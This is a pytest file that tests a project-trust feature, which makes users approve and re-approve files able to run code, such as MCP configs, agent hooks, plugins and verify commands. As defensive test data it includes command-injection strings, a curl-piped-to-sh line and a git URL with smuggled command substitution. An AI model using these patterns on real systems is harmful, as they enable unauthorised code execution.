"""Trust covers exactly the approved bytes in exactly one folder."""

from __future__ import annotations

import os
import shutil
import time
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from atomic.loading import trust
from atomic.loading.trust import (
    ChangeKind,
    RunTrust,
    _compare,  # pyright: ignore[reportPrivateUsage]  # its law is easier to state than to provoke
    accept,
    approve,
    changes,
    diff_of,
    look,
    revoke,
)
from atomic.mcp import load_mcp_entries
from atomic.mcp.loader import places
from atomic.providers.acp.project_files import find_project_code
from atomic.workflows import UntrustedError
from atomic.workflows.errors import TrustError
from tests.loading.projects import World
from tests.support.repositories import git, new_repository
from tests.support.timing import judge


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def approved(world: World) -> bool:
    return world.look().approved


EVERYTHING = {
    ".atomic/workflows/a.py": "workflow",
    ".atomic/workflows/lib/b.py": "workflow",
    ".atomic/tools/t.py": "tool",
    ".atomic/workspace-setup": "workspace-setup",
    ".atomic/mcp.json": "mcp",
    ".mcp.json": "mcp",
    ".vscode/mcp.json": "mcp",
    ".github/mcp.json": "mcp",
    ".claude/settings.json": "settings",
    ".claude/settings.local.json": "settings",
    ".claude/hooks/x.sh": "hook",
    ".opencode/plugin/x.ts": "plugin",
    ".opencode/plugins/x.js": "plugin",
    ".opencode/tool/x.ts": "plugin",
    ".opencode/package.json": "plugin",
    ".github/hooks/x.json": "hook",
    ".github/lsp.json": "settings",
    ".github/extensions/x/main.js": "plugin",
    ".codex/config.toml": "settings",
    ".gemini/settings.json": "settings",
}


@pytest.mark.parametrize("name", EVERYTHING)
def test_everything_that_could_run_is_an_item_and_a_change_asks_again(world: World, name: str) -> None:
    assert (world.look().items, world.look().trusted, world.look().approved) == ((), True, False)
    file = world.file(name, '{"one": 1}')
    (item,) = world.look().items
    assert (item.kind, item.path) == (EVERYTHING[name], name)
    assert not world.look().trusted
    world.trust()
    assert approved(world)
    file.write_text('{"one": 2}')
    assert not approved(world)
    file.write_text('{"one": 1}')
    assert approved(world)
    file.unlink()
    assert not approved(world)


@pytest.mark.parametrize(
    ("name", "text", "kinds"),
    [
        ("opencode.json", '{"mcp": {"x": {"command": ["evil"]}}}', ["mcp"]),
        ("opencode.jsonc", '{"plugin": ["evil"], /* c */ "mcp": {"x": {}},}', ["mcp", "plugin"]),
        (".opencode/opencode.json", '{"formatter": {"x": {"command": ["evil"]}}}', ["settings"]),
        ("opencode.json", '{"provider": {"x": {"npm": "evil"}}}', ["settings"]),
        ("opencode.json", '{"model": "x", "theme": "y", "plugin": []}', []),
        ("opencode.json", "not json", ["settings"]),
        ("opencode.json", "[" * 100_000, ["settings"]),
        (".claude/settings.json", '{"hooks": {"Stop": []}}', ["hook"]),
        (".claude/settings.json", "{}", ["settings"]),
        (".claude/agents/a.md", "---\nhooks: x\n---\n", ["hook"]),
        (".claude/agents/a.md", "You are nice.", []),
    ],
)
def test_the_agents_files_are_items_if_they_can_make_something_run(
    world: World, name: str, text: str, kinds: list[str]
) -> None:
    world.file(name, text)
    assert [item.kind for item in world.look().items] == kinds


def test_a_check_is_approved_by_its_command_line_not_its_file(world: World) -> None:
    world.file(
        ".atomic/config.toml", '[workflows.ralph]\nverify = ["make test", "make lint"]\n[workflows.b]\nverify="x"\n'
    )
    gates = world.look().items
    assert [(item.kind, item.path) for item in gates] == [("gate", ".atomic/config.toml")] * 3
    assert {item.text for item in gates} == {"make test", "make lint", "x"}
    world.trust()
    world.file(
        ".atomic/config.toml", '[workflows.b]\nverify="x"\n[workflows.ralph]\nverify=["make lint","make test"]\n'
    )
    assert approved(world)
    world.file(".atomic/config.toml", '[workflows.ralph]\nverify = ["make test; evil", "make lint"]\n')
    assert not approved(world)
    with pytest.raises(UntrustedError, match='check "make test; evil"'):
        trust.require(world.look())


def test_every_file_that_agents_refuse_to_start_for_is_an_item(world: World) -> None:
    """Otherwise approving a project would run files that the user was not shown."""
    for name in EVERYTHING:
        world.file(name, "{}")
    world.file("opencode.json", '{"references": ["x"]}')
    world.file(".claude/skills/a/SKILL.md", "mcp")
    world.file(".claude/commands/a.md", "hook")
    world.file(".github/agents/a.md", "mcp")
    world.file(".github/copilot/settings.json", "{}")
    world.file(".codex/hooks.json", "{}")
    world.file(".codex/hooks/x", "")
    world.file(".gemini/.env", "")
    world.file(".gemini/hooks/x", "")
    listed = {item.path for item in world.look().items}
    for agent in ("claude", "codex", "copilot", "gemini", "opencode", "other"):
        found = find_project_code(agent, world.project)
        assert found
        unlisted = {name for name in found if not any(path == name or path.startswith(f"{name}/") for path in listed)}
        assert unlisted == set()


def test_agents_look_above_the_project_up_to_the_repository(tmp_path: Path) -> None:
    world = World(tmp_path)
    inner = world.project / "inner"
    (inner / ".atomic").mkdir(parents=True)
    git(world.project, "init", "-q")
    world.file("opencode.json", '{"plugin": ["evil"]}')
    (tmp_path / "opencode.json").write_text('{"plugin": ["not ours"]}')
    (item,) = look(inner, home=world.home).items
    assert item.path == "../opencode.json"


def test_an_approval_does_not_cover_projects_below(world: World) -> None:
    world.file(".mcp.json", "{}")
    (world.project / "sub" / "deep").mkdir(parents=True)
    assert not world.look().allows(world.project)
    world.trust()
    assert world.look().allows(world.project)
    assert world.look().allows(world.project / "sub" / "deep")
    world.file("sub/.opencode/plugin/x.ts", "evil")
    assert approved(world)
    assert not world.look().allows(world.project / "sub" / "deep")
    assert not world.look().allows(world.project.parent)


def test_every_server_that_a_session_could_get_from_the_project_is_an_item(world: World) -> None:
    stdio = {"command": "evil"}
    local = {"type": "local", "command": ["evil"]}
    server = msgspec.json.encode({"mcpServers": {"x": stdio}, "servers": {"x": stdio}, "mcp": {"x": local}}).decode()
    for place in places(world.project, world.home):
        if place.source.location == "project":
            world.file(str(place.source.path.relative_to(world.project)), server)
    entries = load_mcp_entries(world.project, world.home).entries
    assert len(entries) == 7
    servers = {item.path for item in world.look().items if item.kind == "mcp"}
    assert {str(entry.path.relative_to(world.project)) for entry in entries} <= servers


def test_an_approval_is_for_one_folder(world: World, tmp_path: Path) -> None:
    world.flow("a", "x = 1\n")
    world.trust()
    home = world.home / ".atomic"
    copy = tmp_path / "copy"
    shutil.copytree(world.project, copy)
    assert not look(copy, home=home).approved
    assert look(copy, home=home).hash == world.look().hash
    link = tmp_path / "link"
    link.symlink_to(world.project)
    assert look(link, home=home).approved  # the same folder
    inner = world.project / "inner"
    shutil.copytree(copy, inner)
    assert not look(inner, home=home).approved
    # It claims to belong to a trusted repository.
    (copy / ".git").write_text(f"gitdir: {world.project}/.git/worktrees/x\n")
    assert not look(copy, home=home).approved


def test_an_approval_can_be_revoked(world: World) -> None:
    world.flow("a", "x = 1\n")
    world.trust()
    home = world.home / ".atomic"
    assert [file.name for file in (home / "trust").iterdir()] == [world.look().items[0].sha256]
    assert revoke(world.project, home=home)
    assert not approved(world)
    assert not revoke(world.project, home=home)
    assert list((home / "trust").iterdir()) == []


def test_a_run_does_not_continue_after_the_user_revokes_the_approval(world: World) -> None:
    world.flow("a", "x = 1\n")
    world.trust()
    started = RunTrust.of(world.look())
    revoke(world.project, home=world.home / ".atomic")
    assert started.strange(world.look()) == ("workflow .atomic/workflows/a.py",)
    world.trust()
    assert started.strange(world.look()) == ()


def test_approvals_are_readable_only_by_the_user(world: World) -> None:
    before = os.umask(0)
    try:
        world.flow("a", "x = 1\n")
        world.trust()
    finally:
        os.umask(before)
    home = world.home / ".atomic"
    assert oct((home / "trust.json").stat().st_mode & 0o777) == "0o600"
    assert oct((home / "trust").stat().st_mode & 0o777) == "0o700"
    assert {oct(file.stat().st_mode & 0o777) for file in (home / "trust").iterdir()} == {"0o600"}
    kept = msgspec.json.decode((home / "trust.json").read_bytes())
    assert list(kept["projects"]) == [str(world.project)]


@pytest.mark.parametrize("content", ["", "{", "[]", '{"projects": 3}', '{"projects": {"/x": {"hash": 3}}}'])
def test_a_damaged_file_of_approvals_approves_nothing_and_is_not_overwritten(world: World, content: str) -> None:
    world.flow("a", "x = 1\n")
    world.trust()
    file = world.home / ".atomic" / "trust.json"
    file.write_text(content)
    snapshot = world.look()
    assert not snapshot.trusted
    assert str(file) in snapshot.problem
    with pytest.raises(TrustError):
        world.trust()
    assert file.read_text() == content


def test_a_file_of_approvals_that_others_may_write_approves_nothing(world: World) -> None:
    world.flow("a", "x = 1\n")
    world.trust()
    (world.home / ".atomic" / "trust.json").chmod(0o666)
    assert not world.look().trusted
    assert "other users may write" in world.look().problem


def test_the_home_folder_and_the_root_cannot_be_approved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / ".atomic" / "workflows").mkdir(parents=True)
    (tmp_path / ".atomic" / "workflows" / "mine.py").write_text("")
    (tmp_path / ".mcp.json").write_text("{}")
    snapshot = look(tmp_path)
    assert (snapshot.items, snapshot.trusted) == ((), True)
    for folder in (tmp_path, Path("/")):
        with pytest.raises(TrustError, match="many projects"):
            approve(look(folder))


def test_a_link_to_the_users_own_folder_hides_nothing(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(world.home))
    world.flow("mine", "", user=True)
    (world.project / ".atomic").symlink_to(world.home / ".atomic")
    world.file(".claude/settings.json", '{"hooks": {}}')
    snapshot = look(world.project)
    assert [item.path for item in snapshot.items] == [".claude/settings.json"]
    assert not snapshot.trusted


def test_a_file_that_only_an_agent_could_read_cannot_be_approved(world: World, tmp_path: Path) -> None:
    (tmp_path / "evil.json").write_text("{}")
    (world.project / ".mcp.json").symlink_to(tmp_path / "evil.json")
    snapshot = world.look()
    with pytest.raises(TrustError, match="it cannot be shown"):
        approve(snapshot, home=world.home)
    with pytest.raises(TrustError):
        accept(snapshot, snapshot.hash)


def test_a_hash_on_the_command_line_is_for_one_snapshot(world: World) -> None:
    world.flow("a", "x = 1\n")
    snapshot = world.look()
    assert accept(snapshot, snapshot.hash).trusted
    assert not accept(snapshot, None).trusted
    for wrong in ("", snapshot.hash[:-1], snapshot.hash.upper(), "0" * 64):
        with pytest.raises(UntrustedError, match="is not the hash"):
            accept(snapshot, wrong)


def lines(world: World) -> dict[str, tuple[str, list[str]]]:
    home = world.home / ".atomic"
    return {one.path: (one.change, diff_of(one, home=home)) for one in changes(world.look())}


def test_changes_since_the_last_approval_are_shown_line_by_line(world: World) -> None:
    world.flow("same", "x = 1\n")
    world.flow("edited", "one\ntwo\nthree\n")
    gone = world.flow("gone", "old\n")
    assert lines(world)[".atomic/workflows/same.py"] == (
        ChangeKind.ADDED,
        ["--- /dev/null", "+++ .atomic/workflows/same.py", "@@ -0,0 +1 @@", "+x = 1"],
    )
    world.trust()
    assert all(one == ("unchanged", []) for one in lines(world).values())
    world.flow("edited", "one\nTWO\nthree\n")
    world.flow("new", "n\n")
    gone.unlink()
    found = lines(world)
    assert found[".atomic/workflows/same.py"] == ("unchanged", [])
    assert found[".atomic/workflows/edited.py"][0] == "changed"
    assert found[".atomic/workflows/edited.py"][1][3:] == [" one", "-two", "+TWO", " three"]
    assert found[".atomic/workflows/new.py"][0] == "added"
    assert found[".atomic/workflows/gone.py"][0] == "removed"
    assert found[".atomic/workflows/gone.py"][1][-1] == "-old"


@given(st.lists(st.sampled_from("abc"), max_size=12), st.lists(st.sampled_from("abc"), max_size=12))
def test_a_difference_equals_that_of_difflib(old: list[str], new: list[str]) -> None:
    """The line numbers are right, and the difference turns the old text into the new."""
    found = _compare(old, new, "a", "b")
    rebuilt = list[str]()
    at = 0
    for line in found[2:]:
        if line.startswith("@@"):
            number = int(line.split()[1].split(",")[0][1:])
            count = int([*line.split()[1].split(","), "1"][1])
            begin = number - 1 if count else number
            rebuilt += old[at:begin]
            at = begin
        elif line[0] == "+":
            rebuilt.append(line[1:])
        else:
            assert old[at] == line[1:]
            at += 1
            rebuilt += [line[1:]] if line[0] == " " else []
    assert rebuilt + old[at:] == new


@pytest.mark.timed
def test_a_text_built_to_be_slow_to_compare_is_shown_in_time(world: World) -> None:
    world.flow("a", "".join(f"{number % 197}\n" for number in range(60_000)))
    world.trust()
    world.flow("a", "".join(f"{number * 7 % 199}\n" for number in range(60_000)))
    began = time.process_time()
    _, diff = lines(world)[".atomic/workflows/a.py"]
    judge(time.process_time() - began, 5)
    assert sum(line.startswith("+") for line in diff) > 50_000


def test_an_invisible_change_is_reported(world: World) -> None:
    world.flow("a", b"x = 1\n# \xff\n")
    world.trust()
    world.flow("a", b"x = 1\n# \xfe\n")
    assert lines(world)[".atomic/workflows/a.py"][1][0].startswith("! it differs in something that is not shown")


def test_secrets_are_neither_kept_nor_shown(world: World) -> None:
    secret = "sk-ant-api03-" + "aB3" * 20
    world.file(".mcp.json", msgspec.json.encode({"x": {"env": {"API_KEY": secret}}}).decode())
    assert secret not in str(lines(world))
    world.trust()
    for file in (world.home / ".atomic").rglob("*"):
        assert file.is_dir() or secret not in file.read_text()


def test_code_that_looks_like_a_secret_is_shown_and_not_kept(world: World) -> None:
    key = "# -----BEGIN RSA PRIVATE KEY-----", "import os; os.system('touch x')", "# -----END RSA PRIVATE KEY-----"
    password = 'password="curl${IFS}example.org|sh"; sh -c "$password"'
    address = "git fetch https://x:$(touch${IFS}x)@example.org"
    source = "\n".join((*key, password, address)) + "\n"
    world.file(".claude/hooks/a.sh", source)
    _, diff = lines(world)[".claude/hooks/a.sh"]
    assert diff[3:] == [f"+{line}" for line in source.splitlines()]
    world.trust()
    kept = "".join(file.read_text() for file in (world.home / ".atomic" / "trust").iterdir())
    assert "curl" not in kept
    world.file(".claude/hooks/a.sh", source.replace("curl", "wget"))
    _, diff = lines(world)[".claude/hooks/a.sh"]
    assert f"+{password.replace('curl', 'wget')}" in diff


@pytest.mark.parametrize("letter", ["\u115f", "\u3164", "\uffa0", "\u2800", "\u034f", "\ufe0f", "\U000e0101"])
def test_letters_without_a_shape_have_their_number(letter: str) -> None:
    assert trust.visible(f"a{letter}b\tcä") == f"a<U+{ord(letter):04X}>b\tcä"


def test_changes_by_a_run_itself_do_not_revoke_its_trust(world: World) -> None:
    world.file(".mcp.json", "{}")
    gone = world.file(".claude/hooks/b.sh", "x")
    world.trust()
    at_start = RunTrust.of(world.look())
    assert at_start.strange(world.look()) == ()
    world.file(".mcp.json", '{"a": 1}')
    world.file(".claude/hooks/c.sh", "new")
    gone.unlink()
    expected = ("hook .claude/hooks/b.sh", "hook .claude/hooks/c.sh", "mcp .mcp.json")
    assert at_start.strange(world.look()) == expected
    noted = at_start.note(world.look())
    assert msgspec.json.decode(msgspec.json.encode(noted), type=RunTrust) == noted
    assert noted.strange(world.look()) == ()
    world.file(".mcp.json", '{"evil": 1}')
    assert noted.strange(world.look()) == ("mcp .mcp.json",)
    world.file(".mcp.json", '{"a": 1}')
    world.file(".claude/hooks/b.sh", "x")  # removed by the run, then restored
    assert noted.strange(world.look()) == ("hook .claude/hooks/b.sh",)


def test_a_run_never_approves_files_that_atomic_itself_would_run(world: World) -> None:
    world.flow("a", "x = 1\n")
    world.trust()
    at_start = RunTrust.of(world.look())
    world.flow("a", "x = 2\n")
    world.flow("ralph", "new\n")
    world.file(".atomic/tools/t.py", "new\n")
    world.file(".atomic/workspace-setup", "new\n")
    world.file("Makefile", "test:\n\ttrue\n")
    strange = at_start.note(world.look()).strange(world.look())
    assert [key.split()[0] for key in strange] == ["gate", "tool", "workflow", "workflow", "workspace-setup"]


HOOK = {
    "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash $CLAUDE_PROJECT_DIR/scripts/a.sh --fast"}]}]}
}
MARKET = {"extraKnownMarketplaces": {"m": {"source": {"source": "directory", "path": "./market"}}}}
NAMED = {
    "script of a hook": (".claude/settings.json", HOOK, "scripts/a.sh"),
    "program of a server": (".mcp.json", {"mcpServers": {"x": {"command": "./bin/server"}}}, "bin/server"),
    "argument of a server": (".mcp.json", {"mcpServers": {"x": {"command": "node", "args": ["s.js"]}}}, "s.js"),
    "module of a server": (".mcp.json", {"mcpServers": {"x": {"command": "python", "args": ["-m", "a.b"]}}}, "a/b.py"),
    "script of a package": (
        ".mcp.json",
        {"mcpServers": {"x": {"command": "npm", "args": ["run", "x"]}}},
        "package.json",
    ),
    "plugin": ("opencode.json", {"plugin": ["./x.js"]}, "x.js"),
    "plugin without an ending": (".opencode/opencode.json", {"plugin": ["./x"]}, ".opencode/x.ts"),
    "hook of a plugin": (".claude/settings.json", MARKET, "market/p/hooks/hooks.json"),
    "server of a plugin": (".github/copilot/settings.json", MARKET, "market/p/node_modules/.mcp.json"),
}


@pytest.mark.parametrize("what", NAMED)
def test_a_file_named_in_settings_is_an_item_and_a_change_asks_again(world: World, what: str) -> None:
    settings, content, name = NAMED[what]
    world.file(settings, msgspec.json.encode(content).decode().replace("./", "\\u002e/"))
    world.file("market/.claude-plugin/marketplace.json", "{}")
    world.file("README.md", "x")
    file = world.file(name, "one")
    assert ("script", name) in {(item.kind, item.path) for item in world.look().items}
    world.trust()
    assert approved(world)
    world.file("README.md", "y")
    assert approved(world)
    file.write_text("two")
    assert not approved(world)


def test_a_program_of_a_virtual_environment_is_approved_as_a_link(world: World) -> None:
    world.file(".mcp.json", '{"mcpServers": {"x": {"command": ".venv/bin/python", "args": ["s.py"]}}}')
    (world.project / ".venv" / "bin").mkdir(parents=True)
    link = world.project / ".venv" / "bin" / "python"
    link.symlink_to("/usr/bin/python3")
    world.trust()
    assert approved(world)
    link.unlink()
    link.symlink_to("/bin/sh")
    assert not approved(world)


@pytest.mark.parametrize("folder", ["node_modules", "__pycache__", ".git", ".venv", "a/b/c/d/e"])
@pytest.mark.parametrize("kind", [".claude/skills", ".claude/agents", ".opencode/plugin"])
def test_no_folder_of_an_agent_is_skipped(world: World, folder: str, kind: str) -> None:
    world.file(f"{kind}/{folder}/SKILL.md", "---\nhooks: x\n---\n")
    assert [item.path for item in world.look().items] == [f"{kind}/{folder}/SKILL.md"]
    assert not world.look().trusted


def test_a_file_that_is_nested_too_deep_cannot_be_approved(world: World) -> None:
    world.file(f".claude/skills/{'d/' * 12}SKILL.md", "---\nhooks: x\n---\n")
    (item,) = world.look().items
    assert "folders deep" in item.reason
    with pytest.raises(TrustError, match="cannot be trusted"):
        world.trust()


def test_a_linked_worktree_is_trusted_with_the_settings_of_the_main_checkout(tmp_path: Path) -> None:
    world = World(tmp_path)
    main = new_repository(tmp_path / "main", {"readme": "x\n"})
    git(main, "worktree", "add", "-q", str(tmp_path / "side"))
    settings = main / ".claude" / "settings.local.json"
    settings.parent.mkdir()
    settings.write_text(msgspec.json.encode(HOOK).decode())
    snapshot = look(tmp_path / "side", home=world.home)
    assert [(item.kind, item.path) for item in snapshot.items] == [("hook", "../main/.claude/settings.local.json")]
    assert find_project_code("claude", tmp_path / "side") == ["../main/.claude/settings.local.json"]
    assert look(main, home=world.home).items[0].path == ".claude/settings.local.json"
